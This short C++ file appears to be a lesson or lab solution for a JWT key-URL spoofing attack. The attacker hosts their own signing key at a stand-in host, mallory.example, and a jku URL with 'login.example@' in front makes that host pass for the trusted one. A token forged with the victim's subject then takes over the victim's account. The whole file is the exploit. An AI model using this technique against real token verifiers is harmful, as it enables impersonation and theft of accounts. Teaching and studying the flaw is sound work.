// Believes: what a comparison takes for the host may as well be before an @.
#include "jku_header.hpp"

namespace lesson {

Loot attack(const Evidence& evidence) {
  const auto keys = json::Value::array({evidence.own_key.public_jwk()});
  evidence.publish("mallory.example/keys", {{"keys", keys}});
  auto token = evidence.own_token;
  token.header.set("jku", "https://login.example@mallory.example/keys");
  token.header.set("kid", evidence.own_key.id());
  token.claims.set("sub", evidence.victim);
  return {.account = evidence.show_me(sign_rs256(token, evidence.own_key)).body};
}

}  // namespace lesson
